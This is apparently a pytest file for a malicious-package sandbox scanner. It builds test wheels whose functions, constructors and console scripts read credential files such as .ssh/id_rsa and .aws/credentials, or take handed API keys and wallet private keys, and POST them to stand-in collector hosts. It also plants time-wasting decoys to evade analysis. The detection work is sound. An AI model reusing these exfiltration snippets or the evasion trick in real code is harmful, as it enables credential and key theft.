"""The execute phase (deep profile): payloads that fire only from a console script or a
function call are found, attributed to the entry point or the function."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from sandbox.models import Phase, Severity, Verdict
from tests.conftest import run_cli
from tests.fixtures.builders import Randomised, build_wheel, exfil_source, payload_fn

pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")
PLANTED = (".ssh/id_rsa", ".aws/credentials", ".docker/config.json", ".git-credentials", ".netrc")


def test_console_script_payload_found_in_execute_phase(tmp_path: Path) -> None:
    r = Randomised()
    name, script, host, port = r.name("tool"), r.name("run-"), r.address(), r.port()
    whl = build_wheel(
        tmp_path,
        name,
        "1.0",
        {
            f"{name}/__init__.py": "VERSION = '1.0'\n",
            f"{name}/cli.py": payload_fn("main", r.credential(), host, port),
        },
        entry_points=f"[console_scripts]\n{script} = {name}.cli:main\n",
    )
    code, report = run_cli(tmp_path, str(whl), "--profile", "deep", "--window", "1")
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    # the default pass ends with execute (the deep profile's extra passes follow it)
    assert [p.phase for p in report.phases if p.pass_name == "default"][-1] is Phase.EXECUTE
    # nothing fired before the commands ran: --help in exercise, --version in execute (the
    # default pass; a flow the sinkhole closes after the next pass began is tagged with it)
    net = [f for f in report.findings if f.rule_id in ("PS001", "PS002") and f.pass_name == "default"]
    assert all(f.phase in (Phase.EXERCISE, Phase.EXECUTE) for f in net), [(f.rule_id, f.phase) for f in net]
    contexts = {(f.phase, e.context) for f in net if f.rule_id == "PS002" for e in f.evidence}
    assert (Phase.EXERCISE, f"entry point {script} --help") in contexts, contexts
    assert (Phase.EXECUTE, f"entry point {script} --version") in contexts, contexts
    assert any(e.destination == f"{host}:{port}" for f in net for e in f.evidence)


def test_function_payload_found_with_the_function_named(tmp_path: Path) -> None:
    r = Randomised()
    name, fn, host, port = r.name("api"), f"fetch_{r.name('cfg')}", r.address(), r.port()
    whl = build_wheel(
        tmp_path,
        name,
        "1.0",
        {
            f"{name}/__init__.py": "",
            f"{name}/client.py": "import json\n\n"
            + payload_fn(fn, r.credential(), host, port, "url, timeout=3"),
        },
    )
    code, report = run_cli(tmp_path, str(whl), "--profile", "deep", "--window", "1")
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    f = next(f for f in report.findings if f.rule_id == "PS002" and f.phase is Phase.EXECUTE)
    assert any(e.context == f"call {name}.client.{fn}" for e in f.evidence), [e.context for e in f.evidence]
    ex = next(p for p in report.phases if p.phase is Phase.EXECUTE)
    assert any(s.name == f"{name}.client.{fn}" for s in ex.steps)
    assert not any(f.phase is Phase.IMPORT for f in report.findings if f.rule_id == "PS002")


@pytest.mark.parametrize("shape", ["constructor", "unlisted-helper"])
def test_default_profile_calls_a_constructor_that_sends_a_planted_secret(tmp_path: Path, shape: str) -> None:
    # ctx 0.2.6's shape: nothing at import, the class's constructor reads and sends; or
    # a helper left out of __all__ that the README tells the user to call (tablates')
    r = Randomised()
    name, host, port = r.name("ctxlike"), r.address(), r.port()
    cred = r.rng.choice(PLANTED)  # a file with a canary in it: its content leaving is the proof
    if shape == "constructor":
        cls = f"Box{r.name('')}"
        body = textwrap.indent(exfil_source(cred, host, port), "        ")
        src = f"class {cls}(dict):\n    def __init__(self):\n{body}\n"
    else:
        cls = f"init_{r.name('table')}"
        src = "__all__ = ['render']\n\ndef render(rows):\n    return str(rows)\n\n" + payload_fn(
            cls, cred, host, port, "val"
        )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl), "--window", "1")
    assert report is not None and report.verdict is Verdict.MALICIOUS and code == 1
    proof = [f for f in report.findings if f.rule_id == "PS010"]
    assert proof and all(f.phase is Phase.EXECUTE for f in proof), [(f.rule_id, f.phase) for f in proof]
    assert not [f for f in report.findings if f.phase is not Phase.EXECUTE and f.severity.rank >= 2]
    # the same call's connect is said too, as context of the proof
    assert [f for f in report.findings if f.rule_id == "PS002" and f.phase is Phase.EXECUTE]
    ex = next(p for p in report.phases if p.phase is Phase.EXECUTE)
    assert f"{name}.{cls}" in [s.name for s in ex.steps]


def test_default_profile_calls_a_client_that_fetches_the_url_it_is_given(tmp_path: Path) -> None:
    # a library's helper: it looks up ~/.netrc for the URL's host and connects there
    # (to example.invalid, the caller's made-up URL) — what it was asked to do
    r = Randomised()
    name = r.name("client")
    src = textwrap.dedent(
        """\
        import os, socket
        from urllib.parse import urlsplit

        def delete(url):
            netrc = os.path.expanduser("~/.netrc")
            if os.path.exists(netrc):
                open(netrc).read()
            parts = urlsplit(url)
            s = socket.create_connection((parts.hostname, parts.port or 80), timeout=2)
            s.sendall(b"DELETE / HTTP/1.1\\r\\nHost: " + parts.hostname.encode() + b"\\r\\n\\r\\n")
            s.close()
        """
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/api.py": src})
    code, report = run_cli(tmp_path, str(whl), "--window", "1")
    assert report is not None and code == 0 and report.verdict is Verdict.CLEAN, report.verdict_reason
    ex = next(p for p in report.phases if p.phase is Phase.EXECUTE)
    assert any(s.name == f"{name}.api.delete" for s in ex.steps), [s.name for s in ex.steps]
    context = [f for f in report.findings if f.phase is Phase.EXECUTE]
    assert {"PS002", "PS012"} <= {f.rule_id for f in context}, [f.rule_id for f in context]
    assert all(f.severity.value == "low" and "made-up arguments" in f.message for f in context)


def _post(host_expr: str, port_expr: str, header_host: str, body_expr: str) -> str:
    """Source lines that POST *body_expr* to *host_expr*:*port_expr* with Host *header_host*."""
    return textwrap.dedent(
        f"""\
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect(({host_expr}, {port_expr}))
            data = ({body_expr}).encode()
            head = "POST /k HTTP/1.1\\r\\nHost: " + {header_host} + "\\r\\nContent-Length: "
            s.sendall(head.encode() + str(len(data)).encode() + b"\\r\\n\\r\\n" + data)
        except OSError:
            pass
        finally:
            s.close()
        """
    )


@pytest.mark.parametrize("shape", ["sdk-constructor", "wallet-helper"])
def test_default_profile_catches_a_call_that_sends_the_secret_it_is_handed(
    tmp_path: Path, shape: str
) -> None:
    # aliyun-SDK look-alikes: Client(config) posts config.access_key_secret to the
    # attacker's host; wallet helpers post the private key they are handed. Nothing
    # planted is read: the secret arrives as an argument.
    r = Randomised()
    name, host, port, collector = r.name("sdk"), r.address(), r.port(), f"{r.name('api')}.example"
    if shape == "sdk-constructor":
        fn = f"Client{r.name('')}"
        body = '"ak=" + str(config.access_key_id) + "&secret=" + str(config.access_key_secret)'
        src = f"class {fn}:\n    def __init__(self, config):\n" + textwrap.indent(
            _post(repr(host), str(port), repr(collector), body), "        "
        )
    else:
        fn = f"import_{r.name('wallet')}"
        src = f"def {fn}(private_key, label=None):\n" + textwrap.indent(
            _post(repr(host), str(port), repr(collector), "private_key"), "    "
        )
    whl = build_wheel(
        tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/core.py": "import socket\n\n" + src}
    )
    code, report = run_cli(tmp_path, str(whl), "--window", "1")
    assert report is not None and report.verdict is Verdict.SUSPICIOUS and code == 1, (
        report and report.verdict_reason
    )
    found = [f for f in report.findings if f.rule_id == "PS032"]
    assert found and all(f.phase is Phase.EXECUTE and f.severity.value == "medium" for f in found)
    assert collector in found[0].message, found[0].message
    assert all(e.path == "an argument of a call" for f in found for e in f.evidence)
    # not a planted credential: no PS010
    assert not [f for f in report.findings if f.rule_id == "PS010"]


def test_default_profile_clean_when_a_client_sends_the_handed_secret_to_the_handed_url(
    tmp_path: Path,
) -> None:
    # a client's login(url, password): the password goes where it was told to go
    r = Randomised()
    name = r.name("client")
    src = "import socket\nfrom urllib.parse import urlsplit\n\ndef login(url, password):\n" + textwrap.indent(
        "parts = urlsplit(url)\n"
        + _post("parts.hostname", "parts.port or 80", "parts.hostname", '"password=" + password'),
        "    ",
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/api.py": src})
    code, report = run_cli(tmp_path, str(whl), "--window", "1")
    assert report is not None and code == 0 and report.verdict is Verdict.CLEAN, report.verdict_reason
    assert not [f for f in report.findings if f.rule_id == "PS032"]
    # the secret did leave, to the made-up URL's host: the capture shows it
    assert report.network is not None
    assert any(x.location == "an argument of a call" for x in report.network.exfiltration)


def test_default_profile_clean_when_a_client_authenticates_with_the_handed_token(tmp_path: Path) -> None:
    # tqdm's Discord helper's shape: tqdm_discord(token, channel_id) posts progress to the
    # service's API with the token in the Authorization header; that is logging in
    r = Randomised()
    name, host, port, service = r.name("notify"), r.address(), r.port(), f"api.{r.name('chat')}.example"
    src = "import socket\n\ndef send_progress(token, channel_id):\n" + textwrap.indent(
        _post(
            repr(host),
            str(port),
            repr(service) + ' + "\\r\\nAuthorization: Bot " + token',
            '"{\\"content\\": \\"50%\\"}"',
        ),
        "    ",
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/contrib.py": src})
    code, report = run_cli(tmp_path, str(whl), "--window", "1")
    assert report is not None and code == 0 and report.verdict is Verdict.CLEAN, report.verdict_reason
    ex = next(p for p in report.phases if p.phase is Phase.EXECUTE)
    assert any(s.name == f"{name}.contrib.send_progress" for s in ex.steps), [s.name for s in ex.steps]
    assert not [f for f in report.findings if f.rule_id in ("PS032", "PS010")]
    # it did connect (context), and the capture holds the request
    assert [f for f in report.findings if f.rule_id == "PS002" and f.phase is Phase.EXECUTE]


def test_default_profile_clean_when_a_called_client_authenticates_with_the_environment_key(
    tmp_path: Path,
) -> None:
    # litellm's shape: a call of its API sends $OPENAI_API_KEY to the provider in the
    # Authorization header. A planted secret leaves, but only as a client's login to the
    # endpoint our call handed it (``base_url``): LOW context, not PS010's proof. (Its
    # own service's hosts, api.openai.com, are a unit test: fixtures use reserved names.)
    r = Randomised()
    name, host, port = r.name("llm"), r.address(), r.port()
    key = 'os.environ["OPENAI_API_KEY"]'
    header = 'urllib.parse.urlsplit(base_url).hostname + "\\r\\nAuthorization: Bearer " + ' + key
    src = "import os, socket, urllib.parse\n\ndef cancel_batch(batch_id, base_url):\n" + textwrap.indent(
        _post(repr(host), str(port), header, '"{}"'), "    "
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/batches.py": src})
    code, report = run_cli(tmp_path, str(whl), "--window", "1")
    assert report is not None and code == 0 and report.verdict is Verdict.CLEAN, report.verdict_reason
    found = [f for f in report.findings if f.rule_id == "PS010"]
    assert found and all(f.severity.value == "low" and "authentication header" in f.message for f in found)


def test_default_profile_catches_a_call_that_sends_the_environment_key_in_a_header_elsewhere(
    tmp_path: Path,
) -> None:
    # The same header to the payload's own collector: the key sent away, whatever header
    # carries it (a login header is a login only to the key's own service)
    r = Randomised()
    name, host, port = r.name("llm"), r.address(), r.port()
    collector = f"{r.name('collect')}.example"
    header = repr(collector) + ' + "\\r\\nAuthorization: Bearer " + os.environ["OPENAI_API_KEY"]'
    src = "import os, socket\n\ndef list_models(provider):\n" + textwrap.indent(
        _post(repr(host), str(port), header, '"{}"'), "    "
    )
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": "", f"{name}/models.py": src})
    code, report = run_cli(tmp_path, str(whl), "--window", "1")
    assert report is not None and code == 1 and report.verdict is Verdict.MALICIOUS, report.verdict_reason
    found = [f for f in report.findings if f.rule_id == "PS010" and f.phase is Phase.EXECUTE]
    assert found and found[0].severity is Severity.CRITICAL, [
        (f.rule_id, f.severity) for f in report.findings
    ]
    assert any(collector in (e.detail or "") for e in found[0].evidence)


def test_decoys_that_wait_out_the_calls_budget_do_not_hide_the_payload(tmp_path: Path) -> None:
    # Public functions that each wait just under the per-call limit, listed before the
    # payload (dir() order): called one after another they spend the phase's 30 s
    # before the payload's turn, and the run ended clean. Waits are shortened and the
    # budget is shared among every call, in an order drawn per run.
    r = Randomised()
    name, host, port = r.name("decoy"), r.address(), r.port()
    decoys = "".join(
        f"def a{r.name('wait')}(x):\n    time.sleep({r.rng.uniform(4.6, 4.9):.2f})\n\n" for _ in range(8)
    )
    payload = payload_fn(f"zz{r.name('sync')}", r.rng.choice(PLANTED), host, port, "x")  # a planted file
    src = "import time\n\n" + decoys + payload
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    code, report = run_cli(tmp_path, str(whl), "--window", "1")
    assert report is not None and code == 1 and report.verdict is Verdict.MALICIOUS, report.verdict_reason
    found = [f for f in report.findings if f.rule_id == "PS010" and f.phase is Phase.EXECUTE]
    assert found, [(f.rule_id, f.phase, f.severity) for f in report.findings]
